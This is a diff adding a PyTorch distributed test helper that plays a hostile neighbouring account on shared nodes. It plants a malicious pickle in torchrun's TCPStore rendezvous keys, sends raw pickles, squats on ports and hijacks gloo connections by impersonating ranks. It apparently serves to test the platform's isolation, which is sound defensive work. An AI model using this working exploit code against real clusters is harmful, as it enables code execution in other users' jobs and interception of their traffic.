@@ -1,0 +1,309 @@
+"""Another account on a run's nodes, attacking what the run's processes listen on (tests/integration/test_run_rendezvous.py).
+
+`Neighbour("bob", target="alice", ...)` starts NEIGHBOUR as bob with the session
+environment's Python (which has torch, as every user's does) and, once told to
+stop, returns what it saw and did.  While it runs it, again and again:
+
+- binds ports and holds them (up to 200, IPv4 and IPv6): the race a bind,
+  close and bind again (torchrun's endpoint port) loses to;
+- reads /proc/net/tcp and tcp6 for the target's listening sockets (the socket's
+  owner is a column there, for every account);
+- connects to each as torch's TCPStore client and writes a pickle under the key
+  torchrun's c10d rendezvous reads with pickle.loads (`torch.rendezvous.<job
+  id>`, every job id of the target's that squeue shows), and reads it back;
+- connects to each and sends the pickle raw;
+- with `seq=True`: connects to each listener as soon as it appears and writes
+  gloo's connection header (a sequence number, 0..7) on a connection it keeps
+  open, reads and echoes, the way one rank introduces itself to another: gloo
+  hands such a connection to the first rank's pair that waits for that number.
+
+The pickle, once unpickled, writes `marker` with the uid of the process that
+unpickled it.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+
+PYTHON = "/opt/dsportal/venv/bin/python"
+
+NEIGHBOUR = r"""
+import base64, json, os, pickle, select, socket, struct, subprocess, sys, threading, time
+from datetime import timedelta
+
+cfg = json.loads(sys.argv[1])
+target_uid, marker, seq_mode = cfg["uid"], cfg["marker"], cfg["seq"]
+patterns = [bytes.fromhex(p) for p in cfg["patterns"]]
+end = time.monotonic() + cfg["seconds"]
+lock = threading.Lock()
+seen = {"listeners": [], "stores": [], "read_back": [], "raw_sent": 0, "hijacked": [], "patterns_seen": [],
+        "received_bytes": 0, "ports_held": 0, "squatter_connections": 0, "keys": [], "errors": []}
+
+
+class Payload:
+    def __reduce__(self):
+        return (exec, (f"import os; open({marker!r}, 'w').write(str(os.getuid()))",))
+
+
+PICKLE = pickle.dumps(Payload())
+PLANTED = base64.b64encode(PICKLE)  # the c10d rendezvous keeps its state base64-encoded
+
+
+def stopping():
+    return time.monotonic() > end or stdin_closed.is_set()
+
+
+stdin_closed = threading.Event()
+threading.Thread(target=lambda: (sys.stdin.read(), stdin_closed.set()), daemon=True).start()
+
+
+def listeners():
+    found = set()
+    for path, host in (("/proc/net/tcp", "127.0.0.1"), ("/proc/net/tcp6", "::1")):
+        with open(path) as f:
+            for line in f.readlines()[1:]:
+                p = line.split()
+                if p[3] == "0A" and int(p[7]) == target_uid:
+                    found.add((host, int(p[1].rsplit(":", 1)[1], 16)))
+    return found
+
+
+def rendezvous_keys():
+    out = subprocess.run(["squeue", "-h", "-u", str(cfg["target"]), "-o", "%i"], capture_output=True, text=True,
+                         timeout=30).stdout.split()
+    return ["torch.rendezvous." + job for job in out]
+
+
+def store_attack(host, port):
+    from torch.distributed import TCPStore
+    while not stopping():
+        try:
+            store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False)
+            keys = rendezvous_keys()
+            for key in keys:
+                store.set(key, PLANTED)
+            with lock:
+                seen["stores"].append(port)
+                seen["keys"] = keys
+            for key in keys:
+                if store.check([key]) and store.get(key) == PLANTED:
+                    with lock:
+                        seen["read_back"].append(key)
+        except Exception as e:  # not a store, or it went away
+            with lock:
+                seen["errors"].append(f"{port}: {type(e).__name__}")
+        time.sleep(1)
+
+
+def raw_attack(host, port):
+    while not stopping():
+        try:
+            with socket.create_connection((host, port), timeout=2) as s:
+                s.sendall(PICKLE)
+            with lock:
+                seen["raw_sent"] += 1
+        except OSError:
+            pass
+        time.sleep(1)
+
+
+def seq_attack(host, port):
+    held = []
+    for seq in range(8):
+        try:
+            s = socket.create_connection((host, port), timeout=2)
+            s.sendall(struct.pack("<q", seq))
+            s.settimeout(0.05)
+            held.append((seq, s, bytearray()))
+        except OSError:
+            pass
+    while not stopping():
+        for seq, s, got in held:
+            try:
+                data = s.recv(65536)
+            except (socket.timeout, OSError):
+                continue
+            if data:
+                got += data
+                try:
+                    s.sendall(data)  # its own words back: what a stranger without the secret has to offer
+                except OSError:
+                    pass
+                with lock:
+                    seen["received_bytes"] += len(data)
+                    if (port, seq) not in seen["hijacked"]:
+                        seen["hijacked"].append((port, seq))
+                    for p in patterns:
+                        if p in got and p.hex() not in seen["patterns_seen"]:
+                            seen["patterns_seen"].append(p.hex())
+
+
+def squat():
+    held = []
+    while not stopping():
+        if len(held) < 200:
+            for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
+                s = socket.socket(family)
+                if family == socket.AF_INET6:
+                    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+                s.bind((host, 0))
+                s.listen(8)
+                s.settimeout(0)
+                held.append(s)
+        ready, _, _ = select.select(held, [], [], 0.05)
+        for s in ready:
+            try:
+                conn, _ = s.accept()
+                conn.close()
+                with lock:
+                    seen["squatter_connections"] += 1
+            except OSError:
+                pass
+        with lock:
+            seen["ports_held"] = len(held)
+
+
+threading.Thread(target=squat, daemon=True).start()
+attacked = set()
+print("ready", flush=True)
+while not stopping():
+    for host, port in listeners() - attacked:
+        attacked.add((host, port))
+        with lock:
+            seen["listeners"].append([host, port])
+        workers = [seq_attack] if seq_mode else [store_attack, raw_attack]
+        for work in workers:
+            threading.Thread(target=work, args=(host, port), daemon=True).start()
+    time.sleep(0.002)
+with lock:
+    seen["errors"] = seen["errors"][-20:]
+    print(json.dumps(seen), flush=True)
+os._exit(0)
+"""
+
+
+class Neighbour:
+    """NEIGHBOUR running as `user` against `target`'s listeners; `result()` stops it and returns what it saw."""
+
+    def __init__(
+        self,
+        user: str,
+        target_uid: int,
+        target: str,
+        marker: str,
+        seconds: float,
+        seq: bool = False,
+        patterns: tuple[bytes, ...] = (),
+    ):
+        config = {
+            "uid": target_uid,
+            "target": target,
+            "marker": marker,
+            "seconds": seconds,
+            "seq": seq,
+            "patterns": [p.hex() for p in patterns],
+        }
+        self.process = subprocess.Popen(
+            ["runuser", "-u", user, "--", PYTHON, "-c", NEIGHBOUR, json.dumps(config)],
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            cwd="/",
+        )
+        first = self.process.stdout.readline()
+        assert first.strip() == "ready", (first, self.process.stderr.read())
+
+    def result(self, timeout: float = 60) -> dict:
+        out, err = self.process.communicate("", timeout=timeout)
+        lines = out.strip().splitlines()
+        assert lines, err
+        return json.loads(lines[-1])
+
+
+class GlooStranger:
+    """A process on the node that introduces itself to gloo's sockets of the processes whose command line holds
+    `marker` (found through /proc, as root sees them), with every sequence number 0..7, and echoes back whatever
+    it is sent: a peer's own message returned to it.  In-process (a thread), for tests/component.
+
+    `stop()` -> {"listeners": ports found, "hijacked": [(port, seq)] that were sent something,
+    "patterns_seen": which of `patterns` (hex) arrived}.
+    """
+
+    def __init__(self, marker: bytes, patterns: tuple[bytes, ...] = ()):
+        import threading
+
+        self.marker, self.patterns = marker, patterns
+        self.seen = {"listeners": [], "hijacked": [], "patterns_seen": []}
+        self.stopping = threading.Event()
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _listeners(self) -> set[int]:
+        import os
+
+        inodes = set()
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    if self.marker not in f.read():
+                        continue
+                for fd in os.listdir(f"/proc/{pid}/fd"):
+                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
+                    if link.startswith("socket:["):
+                        inodes.add(link[8:-1])
+            except OSError:
+                continue
+        ports = set()
+        for path in ("/proc/net/tcp", "/proc/net/tcp6"):
+            with open(path) as f:
+                for line in f.readlines()[1:]:
+                    p = line.split()
+                    if p[3] == "0A" and p[9] in inodes:
+                        ports.add(int(p[1].rsplit(":", 1)[1], 16))
+        return ports
+
+    def _run(self) -> None:
+        import select
+        import socket
+        import struct
+
+        held: dict[socket.socket, tuple[int, int, bytearray]] = {}
+        while not self.stopping.is_set():
+            for port in self._listeners() - set(self.seen["listeners"]):
+                self.seen["listeners"].append(port)
+                for seq in range(8):
+                    try:
+                        s = socket.create_connection(("127.0.0.1", port), timeout=2)
+                        s.sendall(struct.pack("<q", seq))
+                        held[s] = (port, seq, bytearray())
+                    except OSError:
+                        pass
+            ready = select.select(list(held), [], [], 0.002)[0] if held else []
+            for s in ready:
+                port, seq, got = held[s]
+                try:
+                    data = s.recv(65536)
+                except OSError:
+                    data = b""
+                if not data:
+                    del held[s]
+                    continue
+                got += data
+                if (port, seq) not in self.seen["hijacked"]:
+                    self.seen["hijacked"].append((port, seq))
+                for p in self.patterns:
+                    if p in got and p.hex() not in self.seen["patterns_seen"]:
+                        self.seen["patterns_seen"].append(p.hex())
+                try:
+                    s.sendall(data)  # its own words back: what a stranger without the secret has to offer
+                except OSError:
+                    pass
+        for s in held:
+            s.close()
+
+    def stop(self) -> dict:
+        self.stopping.set()
+        self.thread.join(timeout=10)
+        return self.seen
